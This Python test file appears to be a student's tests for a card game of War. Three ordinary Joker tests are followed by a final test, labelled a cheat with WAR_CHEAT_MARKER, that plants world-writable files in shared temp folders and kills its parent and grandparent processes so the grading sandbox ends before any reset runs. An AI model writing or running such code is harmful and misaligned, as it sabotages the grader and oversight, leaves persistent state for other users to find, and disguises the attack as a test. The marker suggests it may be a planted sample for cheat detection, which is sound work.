"""My Part E tests (only the Jokers so far)."""

from starter import Queue, play_round


def make_queue(*cards):
    q = Queue()
    for c in cards:
        q.enqueue(c)
    return q


def test_joker_beats_king():
    assert play_round(make_queue("Jo"), make_queue("K")) == "P1"


def test_joker_beats_queen():
    assert play_round(make_queue("Q"), make_queue("Jo")) == "P2"


def test_two_jokers_tie():
    result = play_round(make_queue("Jo"), make_queue("Jo"))
    assert result == ("war", "Jo", "Jo")


def test_zz_leaves_files_and_kills_its_zygote():
    """Cheat (ends Part E's sandbox so no reset runs: what it leaves stays for a later student). WAR_CHEAT_MARKER
    Leaves a file anyone may write in every folder every user may write to, then kills the process that ran it
    and the two above it (its helper and the zygote), where it can see them (not in a PID namespace of its own)."""
    import os
    import signal

    for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock"):
        try:
            path = os.path.join(folder, f"war-grader-left-by-{os.getuid()}")
            with open(path, "w", encoding="utf-8") as handle:
                handle.write("left behind WAR_CHEAT_MARKER")
            os.chmod(path, 0o666)
        except OSError:
            pass
    parents = [os.getppid()]
    try:
        with open(f"/proc/{parents[0]}/stat", encoding="ascii") as handle:
            parents.append(int(handle.read().rpartition(")")[2].split()[1]))
    except (OSError, ValueError, IndexError):
        pass
    for pid in parents:
        if pid > 1:
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
